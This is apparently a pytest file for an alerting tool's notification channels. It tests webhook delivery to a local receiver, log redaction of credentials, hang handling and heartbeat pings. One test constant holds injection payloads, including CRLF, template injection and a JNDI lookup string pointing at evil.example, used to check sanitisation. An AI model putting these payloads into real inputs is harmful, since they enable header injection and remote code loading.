"""Real channels on loopback: a webhook, an outward ping; and what the logs say of their secrets."""

import json
import logging
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
import structlog
from msgspec.structs import replace
from pydantic import SecretStr

from paging.batches import Parcel
from paging.channels import channel
from paging.outward import Outward
from paging.pages import after_case
from paging.post import ANSWER_SECONDS, Outcome, Post
from paging.words import ROOM, Line, Message, of_ending, of_page, together
from runtime import logs
from runtime.metrics import Metrics
from tests.unit.paging.stand import LADDERS, NOW, Hands, case
from tests.waiting import until

MESSAGE = together([Line("critical: meadow", "failure")])


class Receiver(ThreadingHTTPServer):
    """Answers every request with `status` and remembers it."""

    def __init__(self) -> None:
        self.status, self.got = 200, list[tuple[str, bytes]]()
        self.silent = threading.Event()
        receiver = self

        class Ears(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                receiver.got.append((self.path, self.rfile.read(length)))
                self.send_response(receiver.status)
                self.end_headers()

            def do_GET(self) -> None:
                self.do_POST()

            def log_message(self, *_arguments: object) -> None: ...

        super().__init__(("127.0.0.1", 0), Ears)


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    with Receiver() as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
        thread.start()
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture(autouse=True)
def as_before() -> Iterator[None]:
    """Leave the process' logging as it was."""
    yield
    structlog.reset_defaults()
    library = logging.getLogger("apprise")
    library.handlers, library.propagate = [], True


def test_a_webhook_gets_the_message(receiver: Receiver) -> None:
    hook = channel("hook", SecretStr(f"json://127.0.0.1:{receiver.server_port}/path"))
    assert hook.tell(MESSAGE)
    ((path, body),) = receiver.got
    assert path == "/path"
    told = json.loads(body)
    assert (told["title"], told["type"]) == ("Firebreak: critical: meadow", "failure")
    assert told["message"] == "critical: meadow"


HOSTILE = (
    '"}], "x": "y</message><evil/>]]>&lol; <!everyone> @channel [restore](https://evil.example) '
    "\r\nX-Header: 1 {{7*7}} %0a ${jndi:ldap://evil.example/a} \u202egnol"
)


@pytest.mark.parametrize("kind", ["json", "xml"])
def test_what_a_chain_said_stays_words_on_the_wire(receiver: Receiver, kind: str) -> None:
    hostile = replace(case(), protocol=HOSTILE[:120], summary=HOSTILE)
    page = after_case(None, hostile, LADDERS, NOW * 1000, 86_400)
    assert page is not None
    message = together([of_page(page), of_ending(replace(page, ended="acknowledged", by=HOSTILE))])
    hook = channel("hook", SecretStr(f"{kind}://127.0.0.1:{receiver.server_port}/path"))
    assert hook.tell(message)
    ((path, body),) = receiver.got
    assert path == "/path"
    wire = body.decode()
    if kind == "json":
        told = json.loads(wire)["message"]
    else:
        assert "<evil" not in wire
        told = wire[wire.index("<Message>") : wire.index("</Message>")]
        assert wire.count("</Message>") == 1
    assert "firebreak acknowledge" in told
    assert not {"@", "\u202e", "\r"} & set(told)
    assert "://evil" not in told
    assert "evil.example" not in told


@pytest.mark.parametrize("style", ["json", "text"])
def test_no_log_tells_an_address(
    receiver: Receiver, capfd: pytest.CaptureFixture[str], style: logs.Format
) -> None:
    logs.configure("page", "DEBUG", style)
    receiver.status = 500
    from paging.channels import channels
    from runtime.settings_paging import PagingSettings

    url = f"json://operator:pass-word-1@127.0.0.1:{receiver.server_port}/token-abcdef?+k=header-xyz"
    made = channels(PagingSettings(urls={"hook": SecretStr(url)}))
    assert not made["hook"].tell(MESSAGE)
    said = "".join(capfd.readouterr())
    assert said
    for secret in ("pass-word-1", "token-abcdef", "header-xyz"):
        assert secret not in said


class Hung:
    room, apart = ROOM, False

    def __init__(self) -> None:
        self.go = threading.Event()

    def tell(self, message: Message) -> bool:
        return self.go.wait(30)


def test_a_channel_that_hangs_holds_up_nobody() -> None:
    clock, hung = Hands(), Hung()
    post = Post({"hung": hung}, clock, Metrics())
    parcel = Parcel("a", Line("a", "info"))
    post.offer("hung", parcel)
    assert post.turn() == []
    clock.seconds += ANSWER_SECONDS
    assert [(outcome.parcel, outcome.ok) for outcome in post.turn()] == [(parcel, False)]
    post.offer("hung", parcel)
    assert [outcome.ok for outcome in post.turn()] == [False]  # at once: it still hangs
    hung.go.set()
    until(lambda: not any(t.name == "channel-hung" for t in threading.enumerate()))
    assert post.turn() == []
    post.offer("hung", parcel)
    found = post.turn()
    until(lambda: found or _added(found, post.turn()))
    assert [outcome.ok for outcome in found] == [True]


def _added(found: list[Outcome], more: list[Outcome]) -> list[Outcome]:
    found += more
    return found


def test_the_outside_is_told_only_while_the_pager_hears_itself(receiver: Receiver) -> None:
    clock, metrics = Hands(), Metrics()
    url = SecretStr(f"http://127.0.0.1:{receiver.server_port}/ping/some-uuid")
    outward = Outward(url, 10.0, clock, metrics)
    outward.turn(heard=float("-inf"))
    assert receiver.got == []
    outward.turn(heard=0.0)
    until(lambda: len(receiver.got) == 1)
    until(lambda: metrics.registry.get_sample_value("firebreak_pinged_timestamp_seconds"))
    clock.seconds = 9.0
    outward.turn(heard=9.0)
    clock.seconds = 31.0
    outward.turn(heard=9.0)
    assert len(receiver.got) == 1
    outward.turn(heard=30.0)
    until(lambda: len(receiver.got) == 2)
